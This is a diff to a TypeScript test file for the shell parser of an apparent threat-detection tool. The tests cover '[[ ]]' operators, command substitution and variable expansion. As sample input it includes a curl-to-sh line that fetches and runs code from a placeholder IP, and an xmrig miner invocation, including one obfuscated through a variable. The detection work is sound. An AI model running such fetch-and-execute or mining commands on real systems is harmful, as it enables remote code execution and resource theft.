@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import { commandName, inlineScriptIndex, parseShell, shellScriptIndexes } from '../../src/threat/shell.js';
+import { commandName, expandAssignments, inlineScriptIndex, parseShell, shellScriptIndexes } from '../../src/threat/shell.js';
 
 const words = (script: string): string[][] => parseShell(script).commands.map((c) => [...c.words]);
 
@@ -47,5 +47,36 @@ describe('command helpers', () => {
   it('finds every chained shell script of a KFP v2 component', () => {
     assert.deepEqual([...shellScriptIndexes(['sh', '-c', 'pip install x && "$0" "$@"', 'sh', '-ec', 'program', 'code'])], [2, 5]);
     assert.deepEqual([...shellScriptIndexes(['python3', '-c', 'print(1)'])], []);
+  });
+
+  it('reads || and && inside [[ … ]] as operators of the test, not command separators', () => {
+    assert.deepEqual(words('if [[ -f a || -n "$B" ]] && [[ $M == x && ( -d c || -d d ) ]]; then python t.py; fi'), [
+      ['[[', '-f', 'a', '||', '-n', '$B', ']]'],
+      ['[[', '$M', '==', 'x', '&&', '(', '-d', 'c', '||', '-d', 'd', ')', ']]'],
+      ['python', 't.py'],
+      ['fi'],
+    ]);
+    // Outside a test the same operators still separate commands.
+    assert.deepEqual(words('true || ./xmrig -o p && echo x'), [['true'], ['./xmrig', '-o', 'p'], ['echo', 'x']]);
+    // `[[` that is an argument does not start a test.
+    assert.deepEqual(words('echo [[ || ./x'), [['echo', '[['], ['./x']]);
+  });
+
+  it('keeps a command substitution inside [[ … ]] for reading', () => {
+    assert.deepEqual(parseShell('[[ -z "$(curl -s http://192.0.2.1/x | sh)" || -f y ]]').substitutions, ['curl -s http://192.0.2.1/x | sh']);
+  });
+
+  it('expands assigned variables up to a cap and says when it stopped', () => {
+    const assignments = new Map([['a', 'x'.repeat(80 * 1024)]]);
+    const expanded = expandAssignments(`a=...; ./run ${'$a'.repeat(2_000)}`, assignments, 1024 * 1024);
+    assert.equal(expanded?.clipped, true);
+    assert.equal(expanded?.text.length, 1024 * 1024);
+    assert.deepEqual(expandAssignments('b=rig; xm$b', new Map([['b', 'rig']])), { text: 'b=rig; xmrig', clipped: false });
+  });
+
+  it('reads a long word in time linear in its length', () => {
+    const started = performance.now();
+    assert.equal(parseShell(`echo ${'a'.repeat(5_000_000)}`).commands[0]?.words[1]?.length, 5_000_000);
+    assert.ok(performance.now() - started < 3_000);
   });
 });
